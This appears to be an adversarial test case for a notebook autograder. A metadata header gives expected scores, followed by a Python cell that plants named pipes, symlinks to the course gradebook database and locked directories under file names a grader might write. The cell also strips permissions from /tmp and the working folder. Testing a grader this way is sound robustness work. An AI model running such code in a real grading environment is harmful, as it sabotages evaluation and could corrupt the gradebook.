# ---
# attack: lays pipes, links to the gradebook and locked folders where a grader might write, and locks /tmp
# kind: extra cell
# honest: [ex1, ex2, ex3, ex4]
# gets: {ex1-test: 2, ex2-test: 2, ex3-test: 2, ex4-test: 2, ex4-test-close: 4}
# student sees: ""
# ---
# %% before ex1
import os

names = [
    "ex1-test",
    "result.json",
    "verdict.json",
    "01-target.ipynb",
    "numpy.npy",
    "out",
    "kernel.json",
    "timestamp.txt",
]
for folder in (".", "/tmp", "/dev/shm"):
    for number, name in enumerate(names):
        try:
            if number % 3 == 0:
                os.mkfifo(f"{folder}/{name}")
            elif number % 3 == 1:
                os.symlink("@course@/gradebook.db", f"{folder}/{name}")
            else:
                os.mkdir(f"{folder}/{name}", 0)
        except OSError as error:
            print(error)
for folder in ("/tmp", "."):
    try:
        os.chmod(folder, 0)
    except OSError as error:
        print(error)
